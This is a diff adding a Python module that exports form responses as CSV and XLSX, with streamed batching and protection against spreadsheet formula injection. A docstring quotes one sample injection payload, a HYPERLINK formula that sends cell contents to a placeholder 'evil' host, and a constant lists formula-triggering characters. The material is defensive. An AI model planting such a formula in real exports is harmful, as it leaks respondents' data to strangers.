@@ -1,0 +1,291 @@
+"""Responses as spreadsheet rows: CSV for German Excel, and XLSX.
+
+Plain functions with no `request` access, so the back office and the CLI can share
+them. `export_rows` streams: it reads responses in keyset-paginated batches and the
+answers of each batch with one query, so memory stays bounded for any number of
+responses. The writers (`csv_stream`, `xlsx_file`) neutralise spreadsheet formulas.
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+import tempfile
+from collections import defaultdict
+from collections.abc import Iterable, Iterator, Sequence
+from dataclasses import dataclass
+from typing import IO
+
+import sqlalchemy as sa
+from flask_babel import force_locale
+from flask_babel import gettext as _
+from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.styles import Font
+
+from intake.engine.definition import FieldDef, FormDefinition
+from intake.extensions import db
+from intake.reports.params import LOCAL_TZ, ReportParams
+from intake.storage.models import Answer, District, Form, FormVersion, Municipality, Response
+
+#: Responses read (and answers fetched) per query.
+BATCH_SIZE = 1000
+#: CSV bytes collected before a chunk is sent to the client.
+CSV_CHUNK = 64 * 1024
+#: Temporary XLSX data above this size goes to disk instead of memory.
+XLSX_SPOOL = 8 * 1024 * 1024
+#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+#: (tab and carriage return can hide such a start from a quick look, and some importers
+#: strip them before deciding).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+CSV_MIMETYPE = "text/csv"
+XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+@dataclass(frozen=True)
+class Column:
+    """One answer column: a field, and for multiple choice one of its choices."""
+
+    field: FieldDef
+    choice: str | None = None
+
+
+def export_rows(
+    form: Form,
+    definition: FormDefinition,
+    districts: Sequence[District],
+    params: ReportParams,
+    lang: str,
+    batch_size: int = BATCH_SIZE,
+) -> Iterator[list[str]]:
+    """The header row, then one row per response of `form` in `districts`, oldest first.
+
+    Columns follow the newest definition (`definition`); answers given to older versions
+    line up by field name, and fields the newest version no longer has are left out.
+    No query runs before the first row is asked for, but the ORM objects passed in are
+    read at once, so the caller may commit (an audit event) or detach them meanwhile.
+    """
+    district_names = {d.id: d.name for d in districts}
+    scope = [Response.form_id == form.id, Response.district_id.in_(list(district_names))]
+    if params.start_utc:
+        scope.append(Response.created_at >= params.start_utc)
+    if params.end_utc:
+        scope.append(Response.created_at < params.end_utc)
+    return _rows(form.id, definition, district_names, scope, lang, batch_size)
+
+
+def _rows(
+    form_id: int,
+    definition: FormDefinition,
+    district_names: dict[int, str],
+    scope: list,
+    lang: str,
+    batch_size: int,
+) -> Iterator[list[str]]:
+    fields = [f for f in definition.answer_fields if f.type not in ("note", "page")]
+    columns = _columns(fields, scope)
+    # Every translated text is looked up once, here, in the export's language; the
+    # rows below need no locale (a streamed response outlives force_locale).
+    with force_locale(lang):
+        header = [
+            _("Reference"),
+            _("Date"),
+            _("District"),
+            _("Language"),
+            _("Source"),
+            _("Version"),
+        ]
+        header += [_column_header(c, lang) for c in columns]
+        labels = _value_labels(fields, lang)
+    yield header
+
+    versions = dict(
+        db.session.execute(
+            sa.select(FormVersion.id, FormVersion.number).where(FormVersion.form_id == form_id)
+        ).all()
+    )
+    names = [f.name for f in fields]
+    for batch in _response_batches(scope, batch_size):
+        values: dict[int, dict[str, list[str]]] = defaultdict(lambda: defaultdict(list))
+        for response_id, name, value in db.session.execute(
+            sa.select(Answer.response_id, Answer.field, Answer.value)
+            .where(Answer.response_id.in_([r.id for r in batch]), Answer.field.in_(names))
+            .order_by(Answer.id)
+        ):
+            values[response_id][name].append(value)
+        for r in batch:
+            answers = values.get(r.id, {})
+            row = [
+                r.reference,
+                r.created_at.astimezone(LOCAL_TZ).strftime("%Y-%m-%d %H:%M"),
+                district_names.get(r.district_id, ""),
+                r.language,
+                r.source or "",
+                str(versions.get(r.form_version_id, "")),
+            ]
+            for column in columns:
+                given = answers.get(column.field.name, [])
+                if column.choice is not None:
+                    row.append("1" if column.choice in given else "")
+                else:
+                    named = labels.get(column.field.name, {})
+                    row.append(", ".join(named.get(v, v) for v in given))
+            yield row
+
+
+def _response_batches(scope: list, batch_size: int) -> Iterator[list[sa.Row]]:
+    """Responses in (created_at, id) order, `batch_size` at a time (keyset pagination)."""
+    after: tuple | None = None
+    while True:
+        query = sa.select(
+            Response.id,
+            Response.reference,
+            Response.created_at,
+            Response.district_id,
+            Response.language,
+            Response.source,
+            Response.form_version_id,
+        ).where(*scope)
+        if after is not None:
+            created, last_id = after
+            # Column comparisons (not a tuple_) so the bound datetime gets the column type.
+            query = query.where(
+                sa.or_(
+                    Response.created_at > created,
+                    sa.and_(Response.created_at == created, Response.id > last_id),
+                )
+            )
+        batch = db.session.execute(
+            query.order_by(Response.created_at, Response.id).limit(batch_size)
+        ).all()
+        if not batch:
+            return
+        yield batch
+        if len(batch) < batch_size:
+            return
+        after = (batch[-1].created_at, batch[-1].id)
+
+
+def _columns(fields: list[FieldDef], scope: list) -> list[Column]:
+    """One column per single-valued field; one per choice of a multiple-choice field.
+
+    Choices only an older version offered still get a column (after the current ones)
+    when someone ticked them, so no ticked answer disappears from the export.
+    """
+    multiple = [f.name for f in fields if f.type == "multiple_choice"]
+    seen: dict[str, set[str]] = defaultdict(set)
+    if multiple:
+        for name, value in db.session.execute(
+            sa.select(Answer.field, Answer.value)
+            .join(Response, Answer.response_id == Response.id)
+            .where(*scope, Answer.field.in_(multiple))
+            .distinct()
+        ):
+            seen[name].add(value)
+    out = []
+    for fdef in fields:
+        if fdef.type != "multiple_choice":
+            out.append(Column(fdef))
+            continue
+        declared = [c["value"] for c in fdef.choices]
+        extra = sorted(seen[fdef.name] - set(declared))
+        out.extend(Column(fdef, value) for value in declared + extra)
+    return out
+
+
+def _column_header(column: Column, lang: str) -> str:
+    """'How would you like to help? – Language courses' for a choice column."""
+    label = column.field.report_label(lang)
+    if column.choice is None:
+        return label
+    return f"{label} – {column.field.choice_label(column.choice, lang).text}"
+
+
+def _value_labels(fields: list[FieldDef], lang: str) -> dict[str, dict[str, str]]:
+    """Per field, stored value -> what the export shows; values not listed show as stored."""
+    yes_no = {"yes": _("Yes"), "no": _("No")}
+    places: dict[str, str] | None = None
+    out: dict[str, dict[str, str]] = {}
+    for fdef in fields:
+        if fdef.type in ("single_choice", "rating"):
+            out[fdef.name] = {
+                c["value"]: fdef.choice_label(c["value"], lang).text for c in fdef.choices
+            }
+        elif fdef.type in ("yes_no", "consent"):
+            out[fdef.name] = yes_no
+        elif fdef.type == "municipality":
+            if places is None:
+                places = dict(
+                    db.session.execute(sa.select(Municipality.slug, Municipality.name)).all()
+                )
+            out[fdef.name] = places
+    return out
+
+
+def safe_cell(value: str) -> str:
+    """A cell value that no spreadsheet program runs as a formula.
+
+    Answers come from anyone with the form's link. A cell such as
+    `=HYPERLINK("http://evil/?"&A2;"click")` or `@SUM(...)` would run as a formula when a
+    coordinator opens the export in Excel or LibreOffice (CSV/formula injection, OWASP)
+    and could send other answers to a stranger or start a program (DDE). A leading
+    apostrophe makes every such cell plain text; the apostrophe is visible, which is
+    the accepted price for answers that really start with '-' or '+'.
+    """
+    if value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_stream(rows: Iterable[list[str]]) -> Iterator[bytes]:
+    """CSV as German Excel opens it: UTF-8 with BOM, ';' between cells, CRLF lines."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
+    yield codecs.BOM_UTF8
+    for row in rows:
+        writer.writerow([safe_cell(cell) for cell in row])
+        if buffer.tell() >= CSV_CHUNK:
+            yield buffer.getvalue().encode("utf-8")
+            buffer.seek(0)
+            buffer.truncate()
+    if buffer.tell():
+        yield buffer.getvalue().encode("utf-8")
+
+
+def xlsx_file(rows: Iterable[list[str]]) -> IO[bytes]:
+    """The rows as an .xlsx file, rewound; the first row (the header) in bold.
+
+    XLSX is a zip file and cannot be sent before it is complete, but openpyxl's
+    write-only mode keeps only the current row in memory and the result is spooled
+    to a temporary file when large. Every cell is a string, never a formula.
+    """
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet()
+    bold = Font(bold=True)
+    for index, row in enumerate(rows):
+        cells = []
+        for value in row:
+            cell = WriteOnlyCell(sheet, value=_xlsx_text(value))
+            cell.data_type = "s"
+            if index == 0:
+                cell.font = bold
+            cells.append(cell)
+        sheet.append(cells)
+    out = tempfile.SpooledTemporaryFile(max_size=XLSX_SPOOL)  # the caller closes it
+    workbook.save(out)
+    out.seek(0)
+    return out
+
+
+def xlsx_bytes(rows: Iterable[list[str]]) -> bytes:
+    """The rows as the bytes of an .xlsx file."""
+    with xlsx_file(rows) as handle:
+        return handle.read()
+
+
+def _xlsx_text(value: str) -> str:
+    """A formula-safe string without the control characters XML (and so XLSX) forbids."""
+    return safe_cell(ILLEGAL_CHARACTERS_RE.sub("", value))
